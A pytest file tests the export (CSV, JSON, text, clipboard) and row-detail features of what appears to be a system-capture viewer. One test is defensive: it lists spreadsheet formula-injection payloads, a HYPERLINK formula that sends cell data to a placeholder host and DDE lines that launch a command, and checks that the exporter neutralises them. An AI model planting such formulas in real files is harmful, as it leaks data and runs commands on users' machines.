"""What is written when rows are taken along, and what is said of one row."""

from __future__ import annotations

import csv
import json
import stat
from pathlib import Path

import pytest

import views
from engine.query.cells import Plain, csv_row
from engine.query.detail import DetailRequest
from engine.query.export import ExportRequest, ExportSnapshot, Format
from engine.query.payload import Shape
from engine.query.selected import SelectedRequest, SelectedSnapshot
from engine.query.snapshots import LinesRequest, TableRequest, TableSnapshot
from engine.store.store import Store
from tests.engine.query.asking import ask, read

VIEWS = views.load().views


@pytest.fixture(scope="module")
def store(captures: Path) -> Store:
    return read(captures / "502Error.scap")


def export(
    store: Store, of: TableRequest | LinesRequest | DetailRequest, shape: Format, path: Path | None
) -> ExportSnapshot:
    snapshot = ask(store, ExportRequest(of, shape, path))
    assert isinstance(snapshot, ExportSnapshot)
    assert not snapshot.error
    return snapshot


def test_csv_and_json_hold_every_row_with_exact_numbers(store: Store, tmp_path: Path) -> None:
    request = TableRequest(VIEWS["syscalls"], count=10_000)
    table = ask(store, request)
    assert isinstance(table, TableSnapshot)
    told = export(store, request, Format.CSV, tmp_path / "a.csv")
    export(store, request, Format.JSON, tmp_path / "a.json")
    with (tmp_path / "a.csv").open(newline="") as file:
        titles, *rows = csv.reader(file)
    objects = json.loads((tmp_path / "a.json").read_text())
    assert titles == [column.title for column in table.columns]
    assert len(rows) == len(objects) == told.rows == table.total
    assert [list(each) for each in objects] == [titles] * len(objects)
    assert stat.S_IMODE((tmp_path / "a.csv").stat().st_mode) == 0o600


def test_a_process_cannot_name_itself_a_formula_that_acts_in_a_spreadsheet() -> None:
    acting = ['=HYPERLINK("http://x/?"&A1,"y")', "=cmd|' /C calc'!A0", "+1+f(2)", "-2+3+cmd|' /C calc'!A0", "@SUM(1)"]
    assert csv_row(acting) == [f"'{text}" for text in acting]
    plain: list[Plain] = ["-bash", "@/tmp/.X11-unix", "+x", "=1", "nginx: worker (1)", "", -5, 1.5, None, True]
    assert csv_row(plain) == plain
    assert csv_row([[1, 0, 3]]) == ["1 0 3"]


def test_a_file_that_is_there_is_not_overwritten(store: Store, tmp_path: Path) -> None:
    path = tmp_path / "mine.csv"
    path.write_text("mine")
    snapshot = ask(store, ExportRequest(TableRequest(VIEWS["procs"]), Format.CSV, path))
    assert isinstance(snapshot, ExportSnapshot)
    assert "mine.csv: File exists" in snapshot.error
    assert path.read_text() == "mine"


def test_lines_are_written_as_shown(store: Store, tmp_path: Path) -> None:
    request = LinesRequest(filter="proc.name=haproxy", shape=Shape.ECHO)
    told = export(store, request, Format.TEXT, tmp_path / "echo.txt")
    lines = (tmp_path / "echo.txt").read_text().splitlines()
    assert len(lines) == told.rows
    assert sum(line.startswith("── ") for line in lines) > 100


def test_all_that_is_told_of_an_event_is_written(store: Store, tmp_path: Path) -> None:
    told = export(store, DetailRequest(13485), Format.TEXT, tmp_path / "event.txt")
    lines = (tmp_path / "event.txt").read_text().splitlines()
    assert lines[0] == "sendto exit"
    assert len(lines) == told.rows
    assert "on\t192.168.0.1:44604->192.168.0.3:80\tdescriptor 0, ipv4" in lines
    assert any(line.endswith("HTTP/1.0 502 Bad Gateway") for line in lines)


def test_the_clipboard_gets_the_text(store: Store) -> None:
    told = export(store, TableRequest(VIEWS["procs"]), Format.TEXT, None)
    assert told.text.count("\n") == told.rows + 1
    assert "haproxy" in told.text


def test_a_row_tells_its_cells_their_filters_and_its_values(store: Store) -> None:
    request = TableRequest(VIEWS["connections"])
    table = ask(store, request)
    assert isinstance(table, TableSnapshot)
    row = table.rows[0]
    chosen = ask(store, SelectedRequest(request, row.key, ("fd.rip", "fd.rport")))
    assert isinstance(chosen, SelectedSnapshot)
    assert [cell.text for cell in chosen.cells] == list(row.cells)
    terms = {cell.title: cell.term for cell in chosen.cells}
    assert terms["LPORT"] == f"fd.lport={row.cells[2]}"
    assert terms["BPS IN"] == ""
    address, port = chosen.values
    assert isinstance(address, bytes)
    assert str(port) == row.cells[4]


def test_a_row_that_is_gone_is_said_to_be(store: Store) -> None:
    chosen = ask(store, SelectedRequest(TableRequest(VIEWS["connections"]), b"nobody"))
    assert isinstance(chosen, SelectedSnapshot)
    assert chosen.error == "the row is gone"
